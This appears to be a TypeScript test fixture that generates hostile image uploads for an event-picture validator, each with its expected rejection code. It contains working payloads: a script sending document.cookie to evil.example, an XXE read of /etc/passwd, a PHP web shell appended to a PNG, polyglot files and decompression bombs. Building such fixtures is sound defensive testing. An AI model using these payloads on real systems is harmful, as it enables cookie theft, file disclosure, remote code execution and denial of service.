import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** Files that somebody sends as the picture of an event, each with what it is refused for. */

const flat = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#c44' }, limitInputPixels: false });

export const honestJpeg = () =>
  flat(640, 400)
    .jpeg()
    .withExif({ IFD0: { Artist: 'Ana', Copyright: '<script>alert(1)</script>' }, IFD3: { GPSLatitudeRef: 'S' } })
    .toBuffer();

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="400">${inner}</svg>`;

const CRC = Array.from({ length: 256 }, (_, byte) => {
  let value = byte;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});
const crc32 = (bytes: Buffer) =>
  (bytes.reduce((sum, byte) => (CRC[(sum ^ byte) & 0xff] ?? 0) ^ (sum >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
}

/** A PNG that says it is so large, whatever its pixels are. */
function pngOf(width: number, height: number, pixels: Buffer, more: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const parts = [chunk('IHDR', header), more, chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([signature, ...parts]);
}

export type Hostile = { what: string; bytes: Buffer; type?: string; code: string };

const MEGABYTE = 1024 * 1024;

export async function hostilePictures(): Promise<Hostile[]> {
  const jpeg = await honestJpeg();
  const png = await flat(640, 400).png().toBuffer();
  const webp = await flat(640, 400).webp().toBuffer();
  const zeros = (length: number) => deflateSync(Buffer.alloc(length), { level: 9 });
  const webpLonger = Buffer.from(webp);
  webpLonger.writeUInt32LE(webp.length * 2, 4);
  return [
    { what: 'an SVG with a script', bytes: Buffer.from(svg(SCRIPT)), type: 'image/svg+xml', code: 'picture_type' },
    { what: 'an SVG that calls itself PNG', bytes: Buffer.from(svg(SCRIPT)), type: 'image/png', code: 'picture_type' },
    {
      what: 'an SVG that loads a file of ours',
      bytes: Buffer.from(`<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`),
      type: 'image/svg+xml',
      code: 'picture_type',
    },
    { what: 'a compressed SVG', bytes: gzipSync(svg(SCRIPT)), type: 'image/svg+xml', code: 'picture_type' },
    { what: 'a page that calls itself JPEG', bytes: Buffer.from(`<html>${SCRIPT}</html>`), code: 'picture_type' },
    { what: 'a page', bytes: Buffer.from(`<html>${SCRIPT}</html>`), type: 'text/html', code: 'UNSUPPORTED_MEDIA_TYPE' },
    { what: 'a PDF', bytes: Buffer.from('%PDF-1.7\n1 0 obj\n'), code: 'picture_type' },
    { what: 'a GIF', bytes: await flat(640, 400).gif().toBuffer(), type: 'image/gif', code: 'picture_type' },
    { what: 'a program', bytes: Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(500)]), code: 'picture_type' },
    { what: 'nothing', bytes: Buffer.alloc(0), code: 'picture_type' },
    {
      what: 'a JPEG that is a page, too',
      bytes: Buffer.concat([jpeg, Buffer.from(`<html>${SCRIPT}</html>`)]),
      code: 'picture_more',
    },
    {
      what: 'a JPEG that is an archive, too',
      bytes: Buffer.concat([jpeg, Buffer.from('PK\x03\x04'), Buffer.alloc(60, 1)]),
      code: 'picture_more',
    },
    {
      what: 'a PNG that is a script, too',
      bytes: Buffer.concat([png, Buffer.from('<?php system($_GET[0]); ?>')]),
      code: 'picture_more',
    },
    { what: 'a WebP that is a page, too', bytes: Buffer.concat([webp, Buffer.from(SCRIPT)]), code: 'picture_more' },
    { what: 'a WebP that promises more than it holds', bytes: webpLonger, code: 'picture_broken' },
    { what: 'a JPEG that was cut off', bytes: jpeg.subarray(0, jpeg.length / 2), code: 'picture_broken' },
    {
      what: 'a bomb of 2.5 billion pixels in some kilobytes',
      bytes: pngOf(50_000, 50_000, zeros(1_000_000)),
      code: 'picture_pixels',
    },
    {
      what: 'a strip longer than any screen',
      bytes: await flat(16_000, 400).png().toBuffer(),
      code: 'picture_pixels',
    },
    {
      what: 'a bomb beside the pixels: a colour profile of 100 MB',
      bytes: pngOf(640, 400, zeros(10), chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), zeros(100 * MEGABYTE)]))),
      code: 'picture_broken',
    },
    { what: 'a dot', bytes: await flat(1, 1).png().toBuffer(), code: 'picture_small' },
    { what: '50 MB', bytes: Buffer.concat([jpeg, Buffer.alloc(50 * MEGABYTE)]), code: 'PAYLOAD_TOO_LARGE' },
  ];
}
